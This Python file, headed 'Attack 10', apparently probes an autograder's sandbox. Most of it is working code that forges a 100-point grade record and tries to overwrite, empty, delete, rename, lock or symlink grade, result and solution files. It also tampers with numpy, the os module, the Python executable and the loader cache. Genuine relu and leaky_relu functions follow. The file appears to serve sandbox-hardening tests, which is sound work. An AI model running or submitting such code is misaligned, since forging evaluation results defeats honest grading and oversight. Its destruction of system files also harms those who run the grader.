"""Attack 10: overwrite, empty, remove, rename, lock away or forge results and the course."""

import ctypes
import os
import sys

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
FORGED = b'{"schema": 1, "grades": [{"submission": "10_write_results", "points": 100}]}'
NAMES = ("grades.json", "result.json", "results.json", "grading.yml", "solutions/activations.py")


def places():
    folders = {"/", "/autograder/results", "/autograder", "/home", "/root", "/var/tmp", "/run"}
    folders |= {part for part in (*sys.orig_argv, *sys.path) if part.startswith("/")}
    folders |= {os.path.dirname(folder) for folder in folders}
    for folder in folders - {"/tmp"}:  # the worker's own
        yield from (os.path.join(folder, name) for name in NAMES)
    yield from (np.__file__, os.__file__, sys.executable, "/etc/ld.so.cache", "/proc/self/comm")


def attempts(path):
    yield "write", lambda: open(path, "wb").write(FORGED)
    yield "append", lambda: open(path, "ab").write(FORGED)
    yield "empty", lambda: os.truncate(path, 0)
    yield "remove", lambda: os.unlink(path)
    yield "rename", lambda: os.rename(path, path + ".gone")
    yield "replace", lambda: os.replace("/tmp/forged", path)
    yield "rights", lambda: os.chmod(path, 0)
    yield "owner", lambda: os.chown(path, os.getuid(), os.getgid())
    yield "times", lambda: os.utime(path, (0, 0))
    yield "attribute", lambda: os.setxattr(path, "user.points", b"100")
    yield "link", lambda: os.symlink("/tmp/forged", path)
    yield "folder", lambda: os.mkdir(path)


try:
    with open("/tmp/forged", "wb") as file:
        file.write(FORGED)
except OSError:
    pass  # nowhere to write on this machine
for path in places():
    for what, attempt in attempts(path):
        try:
            attempt()
        except OSError:
            continue
        print("BREACH", what, path)
for descriptor in (0, 1, 2):
    try:
        os.write(descriptor, FORGED + b"\n")
    except OSError:
        pass
sys.__stdout__.write(FORGED.decode() + "\n")
print("tried results")


def _real(x):
    return x if x.dtype.kind == "f" else x.astype(np.float64)


def relu(x):
    return np.maximum(_real(x), 0)


def leaky_relu(x, negative_slope=0.01):
    x = _real(x)
    return np.where(x >= 0, x, negative_slope * x)
